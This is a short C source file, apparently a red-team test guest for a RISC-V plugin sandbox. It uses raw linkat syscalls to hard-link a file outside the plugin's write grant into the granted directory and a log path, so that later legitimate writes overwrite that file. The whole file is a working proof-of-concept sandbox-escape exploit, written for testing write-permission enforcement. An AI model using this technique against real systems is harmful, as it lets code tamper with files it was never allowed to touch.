/*
 * Red-team guest: hard-links victim.txt (outside the plugin's grant, inside
 * the guest's mapping) as grant/report.txt and as plugins.log, where an
 * honest plugin granted write=./grant, and a later `-D plugins.log`, write.
 * No libc: build with
 *   riscv64-linux-gnu-gcc -O2 -static -nostdlib -fno-builtin -o hardlink_plant.elf hardlink_plant.c
 */
static long sys(long n, long a, long b, long c, long d, long e) {
  register long a7 __asm__("a7") = n;
  register long a0 __asm__("a0") = a;
  register long a1 __asm__("a1") = b;
  register long a2 __asm__("a2") = c;
  register long a3 __asm__("a3") = d;
  register long a4 __asm__("a4") = e;
  __asm__ volatile("ecall"
                   : "+r"(a0)
                   : "r"(a7), "r"(a1), "r"(a2), "r"(a3), "r"(a4)
                   : "memory");
  return a0;
}

#define AT_FDCWD -100
#define NR_linkat 37
#define NR_write 64
#define NR_exit 93

void _start(void) {
  long r1 = sys(NR_linkat, AT_FDCWD, (long)"victim.txt", AT_FDCWD,
                (long)"grant/report.txt", 0);
  long r2 = sys(NR_linkat, AT_FDCWD, (long)"victim.txt", AT_FDCWD,
                (long)"plugins.log", 0);
  if (r1 == 0 && r2 == 0) sys(NR_write, 1, (long)"planted\n", 8, 0, 0);
  else sys(NR_write, 1, (long)"not planted\n", 12, 0, 0);
  sys(NR_exit, 0, 0, 0, 0, 0);
}
